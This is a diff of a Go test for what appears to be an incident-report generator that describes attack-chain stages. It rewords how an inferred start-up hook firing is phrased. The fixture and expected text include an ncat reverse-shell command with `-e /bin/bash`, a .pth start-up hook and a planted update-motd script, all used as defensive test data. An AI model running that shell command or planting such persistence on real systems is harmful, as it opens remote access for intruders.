@@ -547,8 +547,9 @@ func TestCleanupAccountsAreAccounts(t *testing.T) {
 }
 
 // A start-up hook's firing is inferred (no exec names the hook): the
-// sentence says so and names the hook, where a planted file's own run is
-// said as observed.
+// sentence says it is taken to have fired, and from what, where a planted
+// file's own run is said as observed. (The word "inferred" is kept for a
+// stage the chain only infers: this stage's plant is observed.)
 func TestStageSentenceHookFiredIsInferred(t *testing.T) {
 	t0 := time.Date(2026, 12, 4, 18, 39, 1, 0, time.UTC)
 	ncat := &DocProcess{PID: 17811, PPID: 17790, Exe: "/usr/bin/ncat", User: "root",
@@ -567,8 +568,7 @@ func TestStageSentenceHookFiredIsInferred(t *testing.T) {
 	sg := DocStage{Stage: 5, StageID: "persistence", Name: "Persistence", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
 	got := sentence(&DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg}}, sg, byID, "").Text
 	for _, want := range []string{
-		"the start-up hook /srv/kb/venv/lib/python3.11/site-packages/x.pth fired (inferred",
-		"`/usr/bin/ncat --ssl 127.0.0.1 4447 -e /bin/bash`",
+		"the start-up hook /srv/kb/venv/lib/python3.11/site-packages/x.pth is taken to have fired as `/usr/bin/ncat --ssl 127.0.0.1 4447 -e /bin/bash` (the first child of an interpreter",
 		"the planted file ran as `/bin/sh /etc/update-motd.d/60-x`",
 	} {
 		if !strings.Contains(got, want) {
